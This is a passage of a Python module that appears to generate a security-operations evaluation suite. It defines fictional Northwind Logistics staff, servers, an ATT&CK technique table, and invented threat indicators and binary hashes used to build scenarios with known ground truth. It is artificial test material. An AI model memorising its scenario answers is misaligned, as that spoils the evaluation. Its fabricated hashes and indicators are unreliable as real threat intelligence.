"""The built-in evaluation suite: hand-written scenario templates with parameter variation.

Every scenario here was written by the tierzero developers. Nothing comes from a real
organization: the company is the fictional Northwind Logistics (internal domain
``northwind.example``, the default ``config/organization.yaml``), people and hosts are invented,
IP addresses come from the documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24)
or private ranges, and every outside domain ends in ``.example``. Each vendor record is shaped
like the files in ``examples/`` (which follow each vendor's published schema), so it is read by
the same adapters as real data.

A template is one story (an intrusion, or a benign event that looks like one) written as a
function. It is run once per variant with its own seeded random generator, which picks the
people, hosts, addresses, hashes, times and counts, so variants of a story differ in their
details but never in what the story *is*. The truth of each scenario (its cases, verdicts,
ATT&CK techniques, evidence, the actions a good SOC would take and those it must never take)
follows from the story by construction; it is never read back from what tierzero outputs.

The environment every scenario shares (``dataset.json``) is the inventory of
``config/inventory/`` with more staff, servers and cloud instances; what belongs to one story
(a change window, a penetration tester's address, an indicator, a new hire) is in that
scenario's own environment. Scenarios never depend on the configured inventory.

Templates (category, variants):

credential_abuse (29 scenarios)
    mfa_fatigue (5, 1 hard), password_spray (5), ssh_brute_force (4),
    token_theft_inbox_rule (4, 1 hard), kerberoasting (4), admin_night_lsass_dump (3, hard),
    breakglass_guessing (4)
malware_execution (30 scenarios)
    script_dropper (5), office_macro (4, 1 hard), ransomware_precursor (3),
    linux_cryptominer (4), lolbin_persistence (4), test_asset_infection (3, hard),
    edr_blocked_download (4), malware_among_noise (3, hard)
lateral_movement (26 scenarios)
    psexec_stolen_credentials (5), wmi_remote_execution (4), rdp_pivot (4),
    pass_the_hash_dc (4), admin_night_psexec (3, hard), smb_worm_spread (3),
    rdp_among_admin_noise (3, hard)
data_exfiltration (27 scenarios)
    c2_bulk_upload (4), rclone_cloud_upload (4), dns_tunnel (4),
    low_and_slow_upload (4, hard), s3_stolen_key (4), departing_insider (4),
    database_dump_scp (3)
phishing (26 scenarios)
    credential_link (5), attachment_payload (4), executive_impersonation (4),
    campaign_many_recipients (4), oauth_consent (3), phish_among_newsletters (3, hard),
    qr_code_aitm (3, hard)
cloud_abuse (28 scenarios)
    ec2_cryptomining (4), iam_key_malicious_caller (4),
    instance_credential_exfiltration (4), cloudtrail_disabled (3),
    okta_admin_escalation (4), ec2_ssh_then_c2 (3), dev_account_cryptomining (3, hard),
    c2_among_port_probes (3, hard)
benign_lookalike (54 scenarios)
    approved_scanner_sweep (5), patching_in_window (5), approved_pentest (5, 2 hard),
    admin_psexec_at_work (4, hard), user_travelling (4, hard),
    signed_updater_flagged (4, hard), backup_job (4, 1 hard), admin_rdp_at_work (4),
    build_server_encoded_powershell (3, 1 hard), internet_port_probes (5),
    newsletter_flagged (4), routine_noise (3), ad_group_change (4)

``python -m tierzero.evals.builtin_suite`` rewrites ``tierzero/evals/datasets/builtin/``; the
same seed always gives byte-identical files, and a unit test keeps the committed files in step
with this module.
"""

from __future__ import annotations

import hashlib
import json
import random
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from typing import Any, Concatenate, Literal, ParamSpec

from tierzero.evals.dataset import (
    BUILTIN,
    ActionPattern,
    Category,
    DatasetHeader,
    Environment,
    LabState,
    Scenario,
    ScenarioAlert,
    Truth,
    TruthCase,
    TruthVerdict,
)
from tierzero.ingest.base import TACTICS
from tierzero.tools.inventory import (
    Asset,
    Identity,
    Indicator,
    IndicatorType,
    MaintenanceWindow,
    Scanner,
)

SEED = 20261116
VERSION = "1.0.0"
Record = dict[str, Any]
P = ParamSpec("P")
# Every builder takes a "level": 1 informational, 2 low, 3 medium, 4 high, 5 critical
# (OCSF severity_id), and writes it in its vendor's own scale.

# --------------------------------------------------------------------------------------------
# ATT&CK: the names and primary tactic of every technique the suite uses. Vendor records carry
# the names in each vendor's spelling; the truth carries only the ids.
# --------------------------------------------------------------------------------------------

TECHNIQUES: dict[str, tuple[str, str]] = {
    "T1003.001": ("LSASS Memory", "TA0006"),
    "T1003.002": ("Security Account Manager", "TA0006"),
    "T1003.006": ("DCSync", "TA0006"),
    "T1005": ("Data from Local System", "TA0009"),
    "T1018": ("Remote System Discovery", "TA0007"),
    "T1021.001": ("Remote Desktop Protocol", "TA0008"),
    "T1021.002": ("SMB/Windows Admin Shares", "TA0008"),
    "T1027": ("Obfuscated Files or Information", "TA0005"),
    "T1029": ("Scheduled Transfer", "TA0010"),
    "T1030": ("Data Transfer Size Limits", "TA0010"),
    "T1039": ("Data from Network Shared Drive", "TA0009"),
    "T1041": ("Exfiltration Over C2 Channel", "TA0010"),
    "T1046": ("Network Service Discovery", "TA0007"),
    "T1047": ("Windows Management Instrumentation", "TA0002"),
    "T1048": ("Exfiltration Over Alternative Protocol", "TA0010"),
    "T1048.002": ("Exfiltration Over Asymmetric Encrypted Non-C2 Protocol", "TA0010"),
    "T1048.003": ("Exfiltration Over Unencrypted Non-C2 Protocol", "TA0010"),
    "T1053.005": ("Scheduled Task", "TA0003"),
    "T1059.001": ("PowerShell", "TA0002"),
    "T1059.003": ("Windows Command Shell", "TA0002"),
    "T1059.004": ("Unix Shell", "TA0002"),
    "T1059.005": ("Visual Basic", "TA0002"),
    "T1059.007": ("JavaScript", "TA0002"),
    "T1071.001": ("Web Protocols", "TA0011"),
    "T1071.004": ("DNS", "TA0011"),
    "T1074.001": ("Local Data Staging", "TA0009"),
    "T1078": ("Valid Accounts", "TA0001"),
    "T1078.002": ("Domain Accounts", "TA0001"),
    "T1078.003": ("Local Accounts", "TA0001"),
    "T1078.004": ("Cloud Accounts", "TA0001"),
    "T1087.002": ("Domain Account", "TA0007"),
    "T1087.004": ("Cloud Account", "TA0007"),
    "T1098": ("Account Manipulation", "TA0003"),
    "T1098.001": ("Additional Cloud Credentials", "TA0003"),
    "T1098.003": ("Additional Cloud Roles", "TA0003"),
    "T1098.005": ("Device Registration", "TA0003"),
    "T1105": ("Ingress Tool Transfer", "TA0011"),
    "T1110": ("Brute Force", "TA0006"),
    "T1110.001": ("Password Guessing", "TA0006"),
    "T1110.003": ("Password Spraying", "TA0006"),
    "T1114.002": ("Remote Email Collection", "TA0009"),
    "T1114.003": ("Email Forwarding Rule", "TA0009"),
    "T1135": ("Network Share Discovery", "TA0007"),
    "T1136.001": ("Local Account", "TA0003"),
    "T1136.003": ("Cloud Account", "TA0003"),
    "T1140": ("Deobfuscate/Decode Files or Information", "TA0005"),
    "T1190": ("Exploit Public-Facing Application", "TA0001"),
    "T1195.002": ("Compromise Software Supply Chain", "TA0001"),
    "T1204.001": ("Malicious Link", "TA0002"),
    "T1204.002": ("Malicious File", "TA0002"),
    "T1213.002": ("Sharepoint", "TA0009"),
    "T1218.010": ("Regsvr32", "TA0005"),
    "T1218.011": ("Rundll32", "TA0005"),
    "T1486": ("Data Encrypted for Impact", "TA0040"),
    "T1489": ("Service Stop", "TA0040"),
    "T1490": ("Inhibit System Recovery", "TA0040"),
    "T1496": ("Resource Hijacking", "TA0040"),
    "T1528": ("Steal Application Access Token", "TA0006"),
    "T1530": ("Data from Cloud Storage", "TA0009"),
    "T1539": ("Steal Web Session Cookie", "TA0006"),
    "T1543.003": ("Windows Service", "TA0003"),
    "T1547.001": ("Registry Run Keys / Startup Folder", "TA0003"),
    "T1550.002": ("Pass the Hash", "TA0008"),
    "T1550.004": ("Web Session Cookie", "TA0008"),
    "T1552.005": ("Cloud Instance Metadata API", "TA0006"),
    "T1553.005": ("Mark-of-the-Web Bypass", "TA0005"),
    "T1556.006": ("Multi-Factor Authentication", "TA0006"),
    "T1557": ("Adversary-in-the-Middle", "TA0006"),
    "T1558.003": ("Kerberoasting", "TA0006"),
    "T1560.001": ("Archive via Utility", "TA0009"),
    "T1562.008": ("Disable or Modify Cloud Logs", "TA0005"),
    "T1564.008": ("Email Hiding Rules", "TA0005"),
    "T1566": ("Phishing", "TA0001"),
    "T1566.001": ("Spearphishing Attachment", "TA0001"),
    "T1566.002": ("Spearphishing Link", "TA0001"),
    "T1567.002": ("Exfiltration to Cloud Storage", "TA0010"),
    "T1569.002": ("Service Execution", "TA0002"),
    "T1570": ("Lateral Tool Transfer", "TA0008"),
    "T1595": ("Active Scanning", "TA0043"),
    "T1595.002": ("Vulnerability Scanning", "TA0043"),
    "T1619": ("Cloud Storage Object Discovery", "TA0007"),
    "T1621": ("Multi-Factor Authentication Request Generation", "TA0006"),
    "T1656": ("Impersonation", "TA0005"),
}


def technique_name(uid: str) -> str:
    return TECHNIQUES[uid][0]


def tactic_of(uid: str) -> tuple[str, str]:
    """(tactic id, official name) of a technique's primary tactic."""
    tactic = TECHNIQUES[uid][1]
    return tactic, TACTICS[tactic]


def _parent(uid: str) -> str:
    return uid.split(".")[0]


# --------------------------------------------------------------------------------------------
# The company: people, hosts and the base environment every scenario shares.
# --------------------------------------------------------------------------------------------

DOMAIN = "northwind.example"
NETBIOS = "NORTHWIND"
TENANT = "6f1c2a8e-3b4d-4e5f-9a0b-1c2d3e4f5a6b"
AWS_ACCOUNT = "111122223333"
AWS_REGION = "eu-central-1"
# The offices' internet egress addresses: where staff normally come from. Never to be blocked.
HQ_EGRESS = "192.0.2.60"
BRANCH_EGRESS = "192.0.2.61"
DNS_RESOLVER = "10.0.0.53"  # correlation ignores it (config/correlation.yaml)


@dataclass(frozen=True)
class Person:
    """A member of staff: an identity and, for people, the laptop they use."""

    user: str
    name: str
    department: str
    role: str
    privilege: Literal["standard", "elevated", "admin", "service", "break_glass"]
    countries: tuple[str, ...]
    laptop: str | None
    ip: str | None
    mfa: bool = True
    password_changed: str = "2026-08-17"

    @property
    def email(self) -> str:
        return f"{self.user}@{DOMAIN}"

    @property
    def first(self) -> str:
        return self.name.split()[0]


# fmt: off
_PEOPLE: tuple[Person, ...] = (
    # user, name, department, role, privilege, usual countries, laptop, laptop address.
    # The five identities of config/inventory/identities.yaml first, then more staff so
    # variants differ.
    Person("alice.martin", "Alice Martin", "Finance", "Finance analyst", "standard", ("DE",),
           "LT-FIN-042", "10.20.4.42", password_changed="2026-09-02"),
    Person("bob.nguyen", "Bob Nguyen", "IT", "IT administrator", "admin", ("DE",), "LT-IT-007",
           "10.20.6.7", password_changed="2026-10-20"),
    Person("carol.diaz", "Carol Diaz", "Finance", "Chief Financial Officer", "elevated",
           ("DE", "ES"), "LT-FIN-007", "10.20.4.7", password_changed="2026-07-11"),
    Person("felix.wagner", "Felix Wagner", "Finance", "Accounts payable clerk", "standard", ("DE",),
           "LT-FIN-051", "10.20.4.51"),
    Person("hannah.schmidt", "Hannah Schmidt", "Finance", "Payroll specialist", "standard", ("DE",),
           "LT-FIN-063", "10.20.4.63"),
    Person("ines.moreau", "Ines Moreau", "Finance", "Treasury analyst", "standard", ("DE", "FR"),
           "LT-FIN-077", "10.20.4.77"),
    Person("jonas.becker", "Jonas Becker", "Sales", "Key account manager", "standard",
           ("DE", "AT", "CH"), "LT-SAL-012", "10.20.8.12"),
    Person("lena.fischer", "Lena Fischer", "Sales", "Sales director", "standard", ("DE", "GB"),
           "LT-SAL-018", "10.20.8.18"),
    Person("marco.rossi", "Marco Rossi", "Sales", "Account executive", "standard", ("DE", "IT"),
           "LT-SAL-025", "10.20.8.25"),
    Person("nora.jensen", "Nora Jensen", "Sales", "Account executive", "standard",
           ("DE", "DK", "SE"), "LT-SAL-031", "10.20.8.31"),
    Person("omar.haddad", "Omar Haddad", "Sales", "Business development manager", "standard",
           ("DE", "AE"), "LT-SAL-044", "10.20.8.44"),
    Person("paula.richter", "Paula Richter", "HR", "HR business partner", "standard", ("DE",),
           "LT-HR-003", "10.20.10.3"),
    Person("quentin.dubois", "Quentin Dubois", "HR", "Recruiter", "standard", ("DE", "FR"),
           "LT-HR-009", "10.20.10.9"),
    Person("rafael.silva", "Rafael Silva", "Operations", "Logistics planner", "standard",
           ("DE", "PT"), "LT-OPS-101", "10.20.12.101"),
    Person("sofia.novak", "Sofia Novak", "Operations", "Warehouse manager", "standard",
           ("DE", "CZ"), "LT-OPS-115", "10.20.12.115"),
    Person("tim.hoffmann", "Tim Hoffmann", "Operations", "Dispatcher", "standard", ("DE",),
           "LT-OPS-122", "10.20.12.122"),
    Person("ulla.berg", "Ulla Berg", "Operations", "Fleet coordinator", "standard", ("DE",),
           "LT-OPS-130", "10.20.12.130"),
    Person("vera.klein", "Vera Klein", "Legal", "Legal counsel", "standard", ("DE",), "LT-LEG-004",
           "10.20.14.4"),
    Person("wei.zhang", "Wei Zhang", "Engineering", "Software engineer", "standard", ("DE",),
           "LT-ENG-201", "10.20.16.201"),
    Person("xavier.lopez", "Xavier Lopez", "Engineering", "DevOps engineer", "standard",
           ("DE", "ES"), "LT-ENG-214", "10.20.16.214"),
    Person("yara.ali", "Yara Ali", "Engineering", "Data engineer", "standard", ("DE",),
           "LT-ENG-222", "10.20.16.222"),
    Person("zoe.weber", "Zoe Weber", "Executive", "Chief Executive Officer", "elevated",
           ("DE", "US", "GB"), "LT-EXE-001", "10.20.2.1"),
    Person("priya.shah", "Priya Shah", "IT", "Systems administrator", "admin", ("DE",), "LT-IT-011",
           "10.20.6.11"),
    Person("tomasz.kowal", "Tomasz Kowal", "IT", "Linux and database administrator", "admin",
           ("DE", "PL"), "LT-IT-015", "10.20.6.15"),
    Person("sara.lindqvist", "Sara Lindqvist", "IT", "Service desk lead", "elevated", ("DE", "SE"),
           "LT-IT-019", "10.20.6.19"),
    Person("mia.costa", "Mia Costa", "Security", "Security analyst", "elevated", ("DE",),
           "LT-SEC-002", "10.20.18.2"),
    Person("svc-backup", "Backup service", "IT", "Service account", "service", (), None, None,
           mfa=False, password_changed="2025-01-15"),
    Person("svc-sccm", "Configuration Manager service", "IT", "Service account", "service", (),
           None, None, mfa=False, password_changed="2025-11-03"),
    Person("svc-deploy", "Build and deployment service", "Engineering", "Service account",
           "service", (), None, None, mfa=False, password_changed="2026-02-10"),
    Person("svc-sql", "SQL Server service", "IT", "Service account", "service", (), None, None,
           mfa=False, password_changed="2024-06-30"),
    Person("svc-print", "Print and scan service", "IT", "Service account", "service", (), None,
           None, mfa=False, password_changed="2023-03-21"),
    Person("breakglass-admin", "Break-glass administrator", "IT", "Emergency access", "break_glass",
           ("DE",), None, None, password_changed="2026-06-01"),
)
# fmt: on
PEOPLE: dict[str, Person] = {p.user: p for p in _PEOPLE}
STANDARD_STAFF = tuple(p for p in _PEOPLE if p.privilege == "standard")
OFFICE_STAFF = tuple(p for p in STANDARD_STAFF if p.department not in ("Engineering",))
TRAVELLERS = tuple(p for p in STANDARD_STAFF if p.department == "Sales")
ADMINS = tuple(p for p in _PEOPLE if p.privilege == "admin")
EXECUTIVES = (PEOPLE["zoe.weber"], PEOPLE["carol.diaz"])


def _server(
    hostname: str,
    ip: str,
    role: str,
    criticality: Literal["low", "medium", "high", "critical"],
    os: str,
    *,
    owner: str = "it-ops",
    unit: str = "IT",
    admins: tuple[str, ...] = (),
    environment: Literal["production", "corporate", "staging", "test", "development"] = (
        "production"
    ),
    crown_jewel: bool = False,
) -> Asset:
    return Asset(
        hostname=hostname,
        ips=(ip,),
        owner=owner,
        business_unit=unit,
        criticality=criticality,
        environment=environment,
        role=role,
        os=os,
        admins=admins,
        crown_jewel=crown_jewel,
    )


WIN_SERVER = "Windows Server 2022"
UBUNTU = "Ubuntu 24.04"
# fmt: off
_SERVERS: tuple[Asset, ...] = (
    # The servers of config/inventory/assets.yaml first, then more so variants differ.
    _server("SRV-FS-01", "10.10.1.15", "file_server", "high", WIN_SERVER, admins=("bob.nguyen",)),
    _server("SRV-DB-01", "10.10.1.20", "database", "critical", UBUNTU, owner="finance-apps",
            unit="Finance", crown_jewel=True),
    _server("DC-01", "10.10.0.10", "domain_controller", "critical", WIN_SERVER),
    _server("SRV-WEB-02", "10.10.1.22", "web_server", "medium", UBUNTU, owner="web-team",
            unit="Sales"),
    _server("SRV-APP-03", "10.10.1.33", "app_server", "high", WIN_SERVER, unit="Operations",
            admins=("bob.nguyen",)),
    _server("SCAN-01", "10.0.5.10", "vulnerability_scanner", "low", "Rocky Linux 9", owner="secops",
            unit="Security"),
    _server("i-0a1b2c3d4e5f60718", "172.31.8.21", "public_web", "medium", "Amazon Linux 2023",
            owner="web-team", unit="Sales"),
    _server("TEST-LT-099", "10.30.0.99", "workstation", "low", "Windows 11", environment="test"),
    _server("DC-02", "10.10.0.11", "domain_controller", "critical", WIN_SERVER),
    _server("SRV-FS-02", "10.10.1.16", "file_server", "high", WIN_SERVER, unit="Operations",
            admins=("priya.shah",)),
    _server("SRV-DB-02", "10.10.1.21", "database", "high", UBUNTU, owner="ops-apps",
            unit="Operations", admins=("tomasz.kowal",)),
    _server("SRV-WEB-03", "10.10.1.23", "web_server", "medium", UBUNTU, owner="web-team",
            unit="Sales", admins=("tomasz.kowal",)),
    _server("SRV-APP-04", "10.10.1.34", "app_server", "high", WIN_SERVER, unit="Operations",
            admins=("priya.shah",)),
    _server("SRV-ERP-01", "10.10.1.40", "erp", "critical", WIN_SERVER, owner="finance-apps",
            unit="Finance", admins=("priya.shah",), crown_jewel=True),
    _server("SRV-BKP-01", "10.10.1.50", "backup_server", "high", WIN_SERVER,
            admins=("bob.nguyen",)),
    _server("SRV-SCCM-01", "10.10.1.60", "patch_management", "high", WIN_SERVER,
            admins=("priya.shah",)),
    _server("SRV-JUMP-01", "10.10.1.70", "jump_host", "high", WIN_SERVER,
            admins=("bob.nguyen", "priya.shah", "tomasz.kowal")),
    _server("SRV-PRINT-01", "10.10.1.80", "print_server", "low", WIN_SERVER,
            admins=("bob.nguyen",)),
    _server("SRV-BUILD-01", "10.10.2.10", "build_server", "medium", WIN_SERVER, owner="engineering",
            unit="Engineering", admins=("tomasz.kowal",), environment="development"),
    _server("SCAN-02", "10.0.5.11", "vulnerability_scanner", "low", "Qualys Virtual Scanner",
            owner="secops", unit="Security"),
    _server("TEST-SRV-01", "10.30.0.20", "app_server", "low", WIN_SERVER, admins=("priya.shah",),
            environment="test"),
    _server("DEV-SRV-02", "10.30.1.15", "app_server", "low", UBUNTU, owner="engineering",
            unit="Engineering", admins=("tomasz.kowal",), environment="development"),
    _server("i-0b2c3d4e5f6071829", "172.31.8.35", "public_api", "high", "Amazon Linux 2023",
            owner="web-team", unit="Sales"),
    _server("i-0c3d4e5f607182930", "172.31.12.40", "batch_worker", "medium", "Amazon Linux 2023",
            owner="ops-apps", unit="Operations"),
    _server("i-0d4e5f60718293a41", "172.31.40.12", "build_agent", "low", "Amazon Linux 2023",
            owner="engineering", unit="Engineering", environment="development"),
)
# fmt: on


def _laptop(person: Person) -> Asset:
    assert person.laptop and person.ip
    executive = person.department == "Executive" or person.privilege == "elevated"
    return Asset(
        hostname=person.laptop,
        ips=(person.ip,),
        owner=person.user,
        business_unit=person.department,
        criticality="high" if executive else "medium",
        environment="corporate",
        role="workstation",
        os="Windows 11",
    )


ASSETS: dict[str, Asset] = {
    a.hostname: a for a in (*_SERVERS, *(_laptop(p) for p in _PEOPLE if p.laptop))
}
# Public addresses of the AWS instances (documentation range) and their private DNS names.
EC2_PUBLIC_IPS = {
    "i-0a1b2c3d4e5f60718": "203.0.113.80",
    "i-0b2c3d4e5f6071829": "203.0.113.81",
    "i-0c3d4e5f607182930": "203.0.113.82",
    "i-0d4e5f60718293a41": "203.0.113.83",
}
PUBLIC_INSTANCES = ("i-0a1b2c3d4e5f60718", "i-0b2c3d4e5f6071829")
WORKER_INSTANCES = ("i-0c3d4e5f607182930", "i-0b2c3d4e5f6071829")
FILE_SERVERS = ("SRV-FS-01", "SRV-FS-02")
APP_SERVERS = ("SRV-APP-03", "SRV-APP-04")
WEB_SERVERS = ("SRV-WEB-02", "SRV-WEB-03")


def asset(hostname: str) -> Asset:
    return ASSETS[hostname]


def ip_of(hostname: str) -> str:
    return ASSETS[hostname].ips[0]


def laptop(person: Person) -> Asset:
    assert person.laptop, f"{person.user} has no laptop"
    return ASSETS[person.laptop]


def managed_by(admin: Person) -> tuple[str, ...]:
    """Servers the inventory lists ``admin`` as an administrator of."""
    return tuple(a.hostname for a in _SERVERS if admin.user in a.admins)


def identity(person: Person) -> Identity:
    return Identity(
        user=person.user,
        display_name=person.name,
        email=person.email if person.privilege not in ("service", "break_glass") else None,
        role=person.role,
        department=person.department,
        privilege=person.privilege,
        mfa=person.mfa,
        last_password_change=date.fromisoformat(person.password_changed),
        usual_countries=person.countries,
    )


SCANNERS = (
    Scanner(
        name="Nessus on SCAN-01", ips=("10.0.5.10",), hostnames=("SCAN-01",), approved_by="secops"
    ),
    Scanner(
        name="Qualys on SCAN-02", ips=("10.0.5.11",), hostnames=("SCAN-02",), approved_by="secops"
    ),
)

# Northwind's own threat-intelligence feed (config/inventory/threat_intel.csv), part of every
# scenario's environment. Scenarios add indicators of their own.
C2_LOADER_IP = "198.51.100.77"
C2_LOADER_DOMAIN = "cdn-update-check.example"
BASE_INDICATORS = (
    Indicator(
        value=C2_LOADER_IP,
        type="ip",
        confidence=90,
        source="northwind-cti",
        description="Command-and-control server of a commodity loader campaign",
    ),
    Indicator(
        value=C2_LOADER_DOMAIN,
        type="domain",
        confidence=85,
        source="northwind-cti",
        description="C2 domain resolving to 198.51.100.77",
    ),
    Indicator(
        value="northwlnd-billing.example",
        type="domain",
        confidence=80,
        source="northwind-cti",
        description="Look-alike domain used in invoice phishing",
    ),
    Indicator(
        value="5f4dcc3b5aa765d61d8327deb882cf99e4c8b1f3a1d2e3f40516273849aabbcc",
        type="sha256",
        confidence=95,
        source="northwind-cti",
        description="invsvc.exe loader dropped by invoice phishing",
    ),
)
# Addresses a scenario's random picks must not collide with (the base feed, the offices).
RESERVED_IPS = frozenset(
    {
        C2_LOADER_IP,
        "198.51.100.23",
        "203.0.113.45",
        HQ_EGRESS,
        BRANCH_EGRESS,
        *EC2_PUBLIC_IPS.values(),
    }
)


def base_environment() -> Environment:
    """The environment every scenario shares: assets, identities, scanners, the base feed.

    Change windows are not part of it: a window is part of the story of the scenario it
    belongs to (a base window would silently change unrelated scenarios).
    """
    return Environment(
        assets=tuple(sorted(ASSETS.values(), key=lambda a: a.hostname)),
        identities=tuple(identity(p) for p in _PEOPLE),
        scanners=SCANNERS,
        indicators=BASE_INDICATORS,
    )


# Hashes of legitimate, signed binaries. Blocking one of them would break every endpoint, so
# scenarios that show them forbid block_hash on them.
SIGNED: dict[str, str] = {
    "powershell.exe": "9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f",
    "cmd.exe": "b99d114b267ffd068c3289199b6df95a9f9e64872d6c2b666d63974bbce75bf2",
    "wscript.exe": "8e4b0a6c2d9f1e3a5b7c9d0e2f4a6b8c1d3e5f7a9b0c2d4e6f8a1b3c5d7e9f02",
    "rundll32.exe": "0c1f2e3d4c5b6a79880796a5b4c3d2e1f00112233445566778899aabbccddeeff",
    "certutil.exe": "3a7f9e1b5c2d4e6f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7",
    "schtasks.exe": "4d2c8b6a1e3f5a7c9e0b2d4f6a8c1e3b5d7f9a0c2e4b6d8f1a3c5e7b9d0f2a4c",
    "PsExec64.exe": "edfae1a69522f87b12c6dac3225d930e4848832e3c551ee1e7d31736bf4525ef",
    "PSEXESVC.exe": "141b2190f51397dbd0dfde0e3904b264c91b6f81febc823ff0c33da980b69944",
    "wmic.exe": "5e1d7c3b9a2f4e6d8c0b1a3f5e7d9c2b4a6f8e0d1c3b5a7f9e2d4c6b8a0f1e3d",
    "WINWORD.EXE": "6a2c4e8f0b1d3f5a7c9e1b3d5f7a9c0e2b4d6f8a1c3e5b7d9f0a2c4e6b8d1f3a",
    "EXCEL.EXE": "7b3d5f9a1c2e4a6b8d0f2a4c6e8b1d3f5a7c9e0b2d4f6a8c1e3b5d7f9a0c2e4b",
    "msiexec.exe": "1d6a3f8c2e5b7d9a0c4e6f8b1d3a5c7e9f0b2d4a6c8e1f3b5d7a9c0e2f4b6d8a",
    "sc.exe": "4fe6d9eb8109fb79ff645138de7cff37906867aade589bd68afa503a9ab3cfb2",
    "net.exe": "25c8266e2dd6ed4e9c1a9e7f4a5d3a0e6b5d2c1f0e9d8c7b6a5f4e3d2c1b0a99",
    "chrome.exe": "2b7e9d4f1a3c5e7b9d0f2a4c6e8b0d2f4a6c8e1b3d5f7a9c0e2b4d6f8a1c3e5b",
    "explorer.exe": "8d1f3a5c7e9b0d2f4a6c8e1b3d5f7a9c2e4b6d8f0a1c3e5b7d9f2a4c6e8b0d1f",
    "java.exe": "9e2a4c6e8b0d1f3a5c7e9b2d4f6a8c0e1b3d5f7a9c2e4b6d8f0a1c3e5b7d9f3a",
    "mysqldump": "a1c3e5b7d9f0a2c4e6b8d1f3a5c7e9b0d2f4a6c8e1b3d5f7a9c0e2b4d6f8a1c3",
    "curl": "b2d4f6a8c0e1b3d5f7a9c2e4b6d8f0a1c3e5b7d9f2a4c6e8b0d1f3a5c7e9b2d4",
    "vssadmin.exe": "c3e5b7d9f1a2c4e6b8d0f2a4c6e8b1d3f5a7c9e0b2d4f6a8c1e3b5d7f9a0c2e4",
    "mshta.exe": "d4f6a8c0e2b4d6f8a1c3e5b7d9f0a2c4e6b8d1f3a5c7e9b0d2f4a6c8e1b3d5f7",
    "bcdedit.exe": "e5a7c9e1b3d5f7a9c0e2b4d6f8a1c3e5b7d9f2a4c6e8b0d1f3a5c7e9b2d4f6a8",
    "reg.exe": "f6b8d0f2a4c6e8b1d3f5a7c9e0b2d4f6a8c1e3b5d7f9a0c2e4b6d8f1a3c5e7b9",
    "regsvr32.exe": "0a7c9e1b3d5f7a9c2e4b6d8f0a1c3e5b7d9f2a4c6e8b0d1f3a5c7e9b2d4f6a8c",
}

# Countries: city, region, country name, ISO code, latitude, longitude, an ISP/ASN of the area.
GEO: dict[str, tuple[str, str, str, float, float, str]] = {
    "DE": ("Hamburg", "Hamburg", "Germany", 53.55, 9.99, "example telekom ag"),
    "AT": ("Vienna", "Wien", "Austria", 48.21, 16.37, "example broadband at"),
    "CH": ("Zurich", "Zurich", "Switzerland", 47.37, 8.54, "example swiss net"),
    "GB": ("London", "England", "United Kingdom", 51.51, -0.13, "example uk hotels ltd"),
    "FR": ("Paris", "Ile-de-France", "France", 48.86, 2.35, "example fibre sa"),
    "ES": ("Madrid", "Madrid", "Spain", 40.42, -3.70, "example telecom es"),
    "IT": ("Milan", "Lombardy", "Italy", 45.46, 9.19, "example rete it"),
    "US": ("New York", "New York", "United States", 40.71, -74.01, "example hotel wifi inc"),
    "AE": ("Dubai", "Dubai", "United Arab Emirates", 25.20, 55.27, "example gulf telecom"),
    "SG": ("Singapore", "Singapore", "Singapore", 1.29, 103.85, "example changi wifi"),
    "JP": ("Tokyo", "Tokyo", "Japan", 35.68, 139.69, "example hotel network kk"),
    "RO": ("Bucharest", "Bucuresti", "Romania", 44.43, 26.10, "example hosting srl"),
    "NL": ("Amsterdam", "North Holland", "Netherlands", 52.37, 4.90, "example vps bv"),
    "BR": ("Sao Paulo", "Sao Paulo", "Brazil", -23.55, -46.63, "example cloud ltda"),
    "NG": ("Lagos", "Lagos", "Nigeria", 6.52, 3.38, "example isp ng"),
    "VN": ("Hanoi", "Hanoi", "Vietnam", 21.03, 105.85, "example hosting vn"),
    "KZ": ("Almaty", "Almaty", "Kazakhstan", 43.24, 76.89, "example datacenter kz"),
    "MD": ("Chisinau", "Chisinau", "Moldova", 47.01, 28.86, "example vps md"),
    "PL": ("Warsaw", "Mazowieckie", "Poland", 52.23, 21.01, "example net pl"),
    "SE": ("Stockholm", "Stockholm", "Sweden", 59.33, 18.07, "example bredband se"),
}
# Where attackers in these stories operate from (never a Northwind employee's usual country).
HOSTILE_COUNTRIES = ("RO", "NL", "BR", "NG", "VN", "KZ", "MD")
# Where Northwind's sales people travel to for customer meetings.
TRIP_COUNTRIES = ("US", "AE", "SG", "JP", "GB", "FR")


def country_name(code: str) -> str:
    return GEO[code][2]


# --------------------------------------------------------------------------------------------
# Small deterministic helpers. Vendor ids are digests of what makes a record unique, so the
# builders below are pure functions and the same inputs always give the same record.
# --------------------------------------------------------------------------------------------


def digest(*parts: object, size: int = 32) -> str:
    return hashlib.sha256("|".join(str(p) for p in parts).encode()).hexdigest()[:size]


def uuid_of(*parts: object) -> str:
    h = digest(*parts)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def number_of(*parts: object, low: int = 0, high: int = 10**9) -> int:
    return low + int(digest(*parts, size=15), 16) % (high - low)


def sid_of(user: str) -> str:
    return f"S-1-5-21-3623811015-3361044348-30300820-{number_of('sid', user, low=1100, high=9000)}"


def fqdn(hostname: str) -> str:
    return f"{hostname.lower()}.{DOMAIN}"


def iso_ms(at: datetime) -> str:
    """``2026-11-16T09:41:12.077Z`` (Okta, Elastic, GuardDuty)."""
    return at.strftime("%Y-%m-%dT%H:%M:%S.") + f"{at.microsecond // 1000:03d}Z"


def iso_7(at: datetime) -> str:
    """``2026-11-16T08:57:31.4420000Z`` (Microsoft's seven fraction digits)."""
    return at.strftime("%Y-%m-%dT%H:%M:%S.") + f"{at.microsecond:06d}0Z"


def wazuh_time(at: datetime) -> str:
    """``2026-11-16T10:15:02.514+0000``."""
    return at.strftime("%Y-%m-%dT%H:%M:%S.") + f"{at.microsecond // 1000:03d}+0000"


def eve_time(at: datetime) -> str:
    """``2026-11-16T09:04:12.345678+0000``."""
    return at.strftime("%Y-%m-%dT%H:%M:%S.%f") + "+0000"


def epoch_ms(at: datetime) -> int:
    return int(at.timestamp() * 1000)


# Parent techniques' names (vendors that nest sub-techniques under their parent need them).
PARENTS: dict[str, str] = {
    "T1003": "OS Credential Dumping",
    "T1021": "Remote Services",
    "T1048": "Exfiltration Over Alternative Protocol",
